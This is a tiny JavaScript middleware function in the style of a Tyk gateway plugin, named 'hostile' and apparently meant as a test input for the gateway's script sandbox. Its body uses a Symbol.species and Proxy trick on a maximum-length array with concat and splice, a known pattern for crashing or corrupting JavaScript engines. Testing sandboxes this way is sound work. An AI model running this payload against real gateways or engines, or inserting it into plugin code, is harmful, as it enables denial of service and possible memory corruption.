function hostile(request, session, config) {
  class A extends Array { static get [Symbol.species]() { return function (n) { return new Proxy([], {defineProperty: function () { return true; }}); }; } } var a = new A(); a.length = 2 ** 32 - 1; a.concat(a).splice(0, 2 ** 31);
  return TykJsResponse({Body: "returned", Code: 200}, session.meta_data);
}
